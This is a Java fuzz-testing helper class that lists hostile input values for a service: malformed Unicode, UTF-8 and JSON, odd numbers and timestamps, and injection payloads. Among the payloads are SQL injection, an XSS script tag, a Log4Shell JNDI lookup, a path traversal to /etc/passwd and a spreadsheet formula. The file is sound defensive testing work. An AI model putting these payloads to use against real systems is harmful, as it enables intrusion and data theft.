package dev.svcaccounts.system.fuzz;

import java.util.List;
import java.util.Random;

/** The catalogue of hostile values the mutations draw from. */
final class Hostile {

    private Hostile() {
    }

    /** Text with a lone or misordered UTF-16 surrogate: no valid Unicode string (JSON writes it as \\uD800). */
    static final List<String> INVALID_UNICODE = List.of("\uD800", "x\uDFFF", "\uDC00\uD800", "name\uD83D",
            "\uD83Dname");

    /** Bytes that are not UTF-8: a stray byte, an overlong slash, an encoded surrogate, a cut-off character. */
    static final List<byte[]> INVALID_UTF8 = List.of(bytes(0xFF), bytes(0xC0, 0xAF), bytes(0xED, 0xA0, 0x80),
            bytes(0xE2, 0x82), bytes(0xF8, 0x88, 0x80, 0x80, 0x80), bytes(0x80), bytes(0xFE, 0xFF));

    /** NUL and other control characters, C1 controls, line separators. */
    static final List<String> CONTROL = List.of("\u0000", "nul\u0000inside", "bell\u0007", "\u001B[31mred",
            "line\nbreak", "cr\r\nlf", "del\u007F", "next\u0085line", "line\u2028separator", "tab\there");

    /** Invisible formatting characters: bidirectional overrides and isolates, zero-width characters, a BOM. */
    static final List<String> FORMAT = List.of("\u202Egnp.exe", "zero\u200Bwidth", "\uFEFFbom", "\u2066isolate\u2069",
            "soft\u00ADhyphen", "join\u200Der", "\u061Carabic mark");

    /** Valid but unusual text a product must store exactly as sent. */
    static final List<String> EXOTIC = List.of("unicorn \uD83E\uDD84", "e\u0301clair", "\uFF46\uFF55\uFF5A\uFF5A",
            "\u05E9\u05DC\u05D5\u05DD", "\u0645\u0631\u062D\u0628\u0627", "\u540D\u524D", "\uD835\uDC1B\uD835\uDC28",
            "\u216B", "\u0130stanbul", "stra\u00DFe", "nbsp\u00A0inside", "'; DROP TABLE x; --",
            "<script>alert(1)</script>", "${jndi:ldap://example.invalid/x}", "%s%n%x", "../../etc/passwd",
            "=HYPERLINK(\"http://x\")", "\\u0000 as text", "{{not a ref}", "null");

    static final List<String> WHITESPACE = List.of("", " ", "   ", "\t", " padded ", "\u3000");

    /** Numbers a parameter parser may choke on, as text. */
    static final List<String> BOUNDARY_NUMBERS = List.of("0", "-1", "1", "2147483647", "2147483648", "-2147483649",
            "9223372036854775807", "9223372036854775808", "-9223372036854775809", "99999999999999999999999", "-0",
            "36501", "100001");

    /** Text that is no integer, or is one only to a lenient parser. */
    static final List<String> NOT_INTEGERS = List.of("abc", "1.5", "1e3", "", " 7", "7 ", "0x10", "+1", "1_000",
            "\uFF17", "\u0661", "NaN", "Infinity", "true", "-", "1,000");

    /** JSON values of the wrong type for a string field. */
    static final List<String> NOT_STRINGS = List.of("42", "-1", "1.5e308", "1e999", "true", "false", "[]", "[\"x\"]",
            "{}", "{\"a\":1}", "[[[[[[[[]]]]]]]]");

    /** Instants that are out of range, impossible, ambiguous or not instants. */
    static final List<String> ODD_INSTANTS = List.of("-999999999-01-01T00:00:00Z", "+999999999-12-31T23:59:59Z",
            "0000-01-01T00:00:00Z", "2024-02-30T00:00:00Z", "2024-13-01T00:00:00Z", "2030-01-01T24:00:01Z",
            "2030-01-01T00:00:00+25:00", "2030-01-01", "2030-01-01T00:00:00", "2030-01-01T00:00:00.1234567891Z",
            "2000-01-01T00:00:00Z", "9999-12-31T23:59:59.999999999Z", "2030-01-01t00:00:00z", "2030-W01-1",
            "1893456000", "now", "");

    /** Bare numbers where an instant belongs: seconds, milliseconds, negative, huge, fractional. */
    static final List<String> BARE_NUMBER_INSTANTS = List.of("1893456000", "1893456000000", "-1", "0", "1e20",
            "1893456000.5");

    /** Whole bodies that are not one JSON object. */
    static final List<String> NOT_OBJECTS = List.of("null", "[]", "[{}]", "\"text\"", "42", "true");

    /** Bodies that are not JSON at all, or not only JSON. */
    static final List<String> MALFORMED = List.of("{", "}", "{}x", "{}{}", "{\"a\":}", "{'a':1}", "{\"a\":NaN}",
            "/*comment*/{}", "{\"a\":1,}", "{\"a\" 1}", "\u0000", "{\"a\":\"\u0001\"}", "{\"\\uD800\":1}");

    static final List<String> LIKE_WILDCARDS = List.of("%", "_", "%25", "*", "\\", "' OR '1'='1", "a%");

    static String pick(Random random, List<String> values) {
        return values.get(random.nextInt(values.size()));
    }

    static <T> T any(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    /** {@code count} times {@code unit}. */
    static String repeat(String unit, int count) {
        return unit.repeat(count);
    }

    static String randomName(Random random, int length) {
        String alphabet = "abcdefghijklmnopqrstuvwxyz0123456789";
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < length; i++) {
            out.append(alphabet.charAt(random.nextInt(alphabet.length())));
        }
        return out.toString();
    }

    static String randomUuid(Random random) {
        return new java.util.UUID(random.nextLong(), random.nextLong()).toString();
    }
}
